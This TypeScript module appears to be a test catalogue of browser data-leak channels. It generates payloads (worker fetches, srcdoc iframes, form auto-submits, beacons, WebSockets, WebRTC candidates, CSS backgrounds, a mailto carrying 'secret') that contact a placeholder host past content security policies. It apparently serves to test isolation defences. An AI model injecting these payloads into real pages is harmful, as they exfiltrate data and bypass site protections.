/** Leaks by corners: hints and elements that hardly anybody uses, realms inside realms. */
import { element, head, markup, NONCE, script, style, type Technique } from "./leak-technique";

const PNG = "i.png";
/** Code in a worker from a blob; what it throws stays there. */
const inWorker = (name: string, code: string, more: Partial<Technique> = {}): Technique =>
  script(
    `${name} in a worker`,
    (to) =>
      `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}.replaceAll("TO", ${JSON.stringify(to.url)})], { type: "text/javascript" })))`,
    more,
  );
const inFrame = (name: string, html: string, more: Partial<Technique> = {}): Technique =>
  script(
    name,
    (to) =>
      `const f = document.createElement("iframe"); f.srcdoc = ${JSON.stringify(html).replaceAll("</", "<\\/")}.replaceAll("TO", "${to.url}").replaceAll("NONCE", ${NONCE}); document.body.append(f)`,
    more,
  );
const NO_SUCH = { noControl: "not in this browser" };

const WORKERS: Technique[] = [
  inWorker("fetch keepalive", `fetch("TO/k", { mode: "no-cors", keepalive: true }); close()`),
  inWorker("a font", `new FontFace("a", "url(TO/f.woff)").load()`),
  script(
    "data worker",
    (to) =>
      `new Worker("data:text/javascript," + encodeURIComponent("fetch('${to.url}/d', { mode: 'no-cors' })"))`,
  ),
];

const REALMS: Technique[] = [
  inFrame(
    "a child with a policy of its own",
    `<meta http-equiv="content-security-policy" content="default-src *"><img src="TO/${PNG}">`,
  ),
  inFrame("a child with a base", `<base href="TO/"><img src="${PNG}">`),
  inFrame("a child that refreshes", `<meta http-equiv="refresh" content="0;url=TO/r">`),
  inFrame(
    "a child with a form",
    `<form action="TO/f"><input name="q" value="1"></form><script nonce="NONCE">document.forms[0].submit()</script>`,
  ),
  inFrame(
    "a child's WebSocket",
    `<script nonce="NONCE">new WebSocket("TO/s".replace("http", "ws"))</script>`,
  ),
  inFrame("a child's beacon", `<script nonce="NONCE">navigator.sendBeacon("TO/b", "x")</script>`),
  inFrame("a child's EventSource", `<script nonce="NONCE">new EventSource("TO/e")</script>`),
  inFrame("a child's remote script with the nonce", `<script nonce="NONCE" src="TO/s.js"></script>`),
  inFrame("a child of a child", `<iframe srcdoc="&lt;img src='TO/${PNG}'>"></iframe>`),
  script(
    "a child that is written",
    (to) =>
      `const f = document.createElement("iframe"); document.body.append(f); const d = f.contentDocument; d.open(); d.write('<img src="${to.url}/${PNG}">'); d.close()`,
  ),
  markup("frameset", (to) => `<iframe srcdoc="<frameset><frame src='${to.url}/f'></frameset>"></iframe>`),
  markup("iframe without credentials", (to) => `<iframe credentialless src="${to.url}/f"></iframe>`),
  markup("iframe with a policy", (to) => `<iframe csp="default-src *" src="${to.url}/f"></iframe>`),
  script(
    "frame navigated by location",
    (to) =>
      `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location.href = "${to.url}/f"`,
  ),
  script(
    "window.open by the name of a frame",
    (to) =>
      `const f = document.createElement("iframe"); f.name = "inner" + Math.random(); document.body.append(f); window.open("${to.url}/f", f.name)`,
  ),
];

const ELEMENTS: Technique[] = [
  markup(
    "table background",
    (to) => `<table background="${to.url}/t.png"><tr><td background="${to.url}/u.png">x</td></tr></table>`,
  ),
  markup(
    "svg set of an address",
    (to) =>
      `<svg><image width="5" height="5"><set attributeName="href" to="${to.url}/${PNG}"/></image></svg>`,
  ),
  markup(
    "picture in a foreignObject",
    (to) =>
      `<svg width="9" height="9"><foreignObject width="9" height="9"><img src="${to.url}/${PNG}"></foreignObject></svg>`,
  ),
  markup(
    "svg gradient, pattern and path of another file",
    (to) =>
      `<svg><linearGradient href="${to.url}/g.svg#a"/><pattern href="${to.url}/p.svg#a"/><text><textPath href="${to.url}/t.svg#a">x</textPath></text></svg>`,
    { noControl: "same document only" },
  ),
  markup("applet", (to) => `<applet code="a.class" codebase="${to.url}/"></applet>`, NO_SUCH),
  markup("bgsound", (to) => `<bgsound src="${to.url}/b.wav">`, NO_SUCH),
  markup("html manifest", (to) => `<div manifest="${to.url}/m"></div>`, NO_SUCH),
  markup("attribution of a link", (to) => `<a id="a" href="#x" attributionsrc="${to.url}/a">a</a>`, {
    press: "#a",
    noControl: "needs https",
  }),
  script(
    "attribution of a script",
    element("script", `{ src: "data:text/javascript,1", attributionSrc: URL + "/a" }`),
    { noControl: "needs https" },
  ),
  script(
    "insertHTML",
    (to) =>
      `document.body.contentEditable = "true"; document.body.focus(); document.execCommand("insertHTML", false, '<img src="${to.url}/${PNG}">')`,
    { alone: true },
  ),
  script(
    "createContextualFragment",
    (to) =>
      `document.body.append(document.createRange().createContextualFragment('<img src="${to.url}/${PNG}">'))`,
  ),
  script(
    "insertAdjacentHTML",
    (to) => `document.body.insertAdjacentHTML("beforeend", '<img src="${to.url}/${PNG}">')`,
  ),
  script(
    "an attribute node",
    (to) =>
      `const i = new Image(); const a = document.createAttribute("src"); a.value = "${to.url}/${PNG}"; i.setAttributeNode(a); document.body.append(i)`,
  ),
  script(
    "a shadow root",
    (to) =>
      `const d = document.createElement("div"); document.body.append(d); d.attachShadow({ mode: "closed" }).innerHTML = '<style>@import "${to.url}/s.css";</style><img src="${to.url}/${PNG}">'`,
  ),
  script(
    "a template",
    (to) =>
      `const t = document.createElement("template"); t.innerHTML = '<img src="${to.url}/${PNG}">'; document.body.append(t.content)`,
  ),
  script(
    "remote playback",
    (to) =>
      `const v = document.createElement("video"); v.src = "${to.url}/v.mp4"; document.body.append(v); v.remote.watchAvailability(() => {})`,
  ),
];

const HINTS: Technique[] = [
  ...["json", "worker", "document", "object", "embed", "audio", "video"].map((kind) =>
    script(`preload as ${kind}`, element("link", `{ rel: "preload", as: "${kind}", href: URL + "/p" }`), {
      noControl: "not a kind that is preloaded",
    }),
  ),
  ...[
    "expect",
    "pingback",
    "next",
    "alternate",
    "payment-method-manifest",
    "dictionary",
    "import",
    "serviceworker",
    "monetization",
  ].map((rel) =>
    script(`link ${rel}`, element("link", `{ rel: "${rel}", href: URL + "/l" }`), {
      noControl: "nothing is fetched for it",
    }),
  ),
  head(
    "names of links",
    (to) => `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//${to.host}/x">x</a>`,
    { lasting: true, byName: true, noControl: "browsers look up what the pointer is on" },
  ),
  head(
    "endpoints of reports in a meta",
    (to) =>
      `<meta http-equiv="reporting-endpoints" content='a="${to.url}/r"'><meta http-equiv="content-security-policy" content="img-src 'none'; report-to a"><img src="data:,">`,
    { noControl: "ignored in meta" },
  ),
  script(
    "source map",
    (to) =>
      `const s = document.createElement("script"); s.nonce = ${NONCE}; s.textContent = "1\\n//# sourceMappingURL=${to.url}/m.map"; document.head.append(s)`,
    { noControl: "read by developer tools" },
  ),
];

const APIS: Technique[] = [
  script(
    "WebRTC to a candidate by name",
    (to) =>
      `const p = new RTCPeerConnection(); p.createDataChannel("a"); p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.setRemoteDescription({ type: "answer", sdp: "v=0\\r\\no=- 1 1 IN IP4 0.0.0.0\\r\\ns=-\\r\\nt=0 0\\r\\n" })).catch(() => {}); try { p.addIceCandidate({ candidate: "candidate:1 1 udp 1 ${to.host} ${to.port} typ host", sdpMid: "0" }) } catch {}`,
    { crashes: true, byName: true, lasting: true, noControl: "names are looked up for local ones alone" },
  ),
  script(
    "TCPSocket and UDPSocket",
    (to) =>
      `new TCPSocket("127.0.0.1", ${to.port}); new UDPSocket({ remoteAddress: "127.0.0.1", remotePort: ${to.port} })`,
    { noControl: "isolated apps only" },
  ),
  script(
    "ad auction",
    (to) =>
      `navigator.runAdAuction({ seller: "${to.url}", decisionLogicURL: "${to.url}/d.js", interestGroupBuyers: [] })`,
    { noControl: "needs https" },
  ),
  script(
    "passkey of another site",
    (to) =>
      `navigator.credentials.create({ publicKey: { rp: { id: "${to.host}", name: "n" }, user: { id: new Uint8Array(1), name: "n", displayName: "n" }, challenge: new Uint8Array(9), pubKeyCredParams: [{ type: "public-key", alg: -7 }] } })`,
    { noControl: "asks for a well-known file of an https host" },
  ),
  script(
    "push subscription",
    () => `navigator.serviceWorker.ready.then((r) => r.pushManager.subscribe({ userVisibleOnly: true }))`,
    { noControl: "needs a service worker" },
  ),
  script("share", (to) => `navigator.share({ url: "${to.url}/s" })`, {
    noControl: "opens a sheet of the system",
  }),
  script(
    "another protocol",
    (to) => `setTimeout(() => { location.href = "mailto:a@${to.host}?body=secret" })`,
    { alone: true, noControl: "opens another program" },
  ),
];

const CSS: Technique[] = [
  style("mask-box-image", (to) => `#x{-webkit-mask-box-image:url(${to.url}/m.png)}`),
  style("box-reflect", (to) => `#x{-webkit-box-reflect:below 0 url(${to.url}/r.png)}`),
  style(
    "scrollbar",
    (to) => `#x{height:9px;overflow:scroll}#x::-webkit-scrollbar{width:9px;background:url(${to.url}/s.png)}`,
    undefined,
    { noControl: "browsers of tests have no scrollbars" },
  ),
  style(
    "first line and letter",
    (to) =>
      `#x::first-line{background:url(${to.url}/l.png)}#x::first-letter{background:url(${to.url}/m.png)}`,
  ),
  style(
    "backdrop",
    (to) => `dialog::backdrop{background:url(${to.url}/b.png)}`,
    "<dialog id=x>x</dialog><script nonce>document.querySelector('dialog').showModal()</script>",
  ),
  style(
    "a font by its range",
    (to) => `@font-face{font-family:r;src:url(${to.url}/r.woff);unicode-range:U+78}#x{font-family:r}`,
  ),
  style("a style for paper", (to) => `@media print{#x{background:url(${to.url}/p.png)}}`, undefined, {
    noControl: "fetched for printing",
  }),
  style(
    "counter style",
    (to) => `@counter-style c{system:cyclic;symbols:url(${to.url}/c.png)}#x{display:list-item;list-style:c}`,
    undefined,
    NO_SUCH,
  ),
  style(
    "container and nested rules",
    (to) =>
      `@container (min-width:1px){#x{&{background:url(${to.url}/n.png)}}}body{container-type:inline-size}`,
  ),
  style("a namespace", (to) => `@namespace url(${to.url}/n);`, undefined, { noControl: "a name alone" }),
];

export const CORNERS: Technique[] = [...WORKERS, ...REALMS, ...ELEMENTS, ...HINTS, ...APIS, ...CSS];
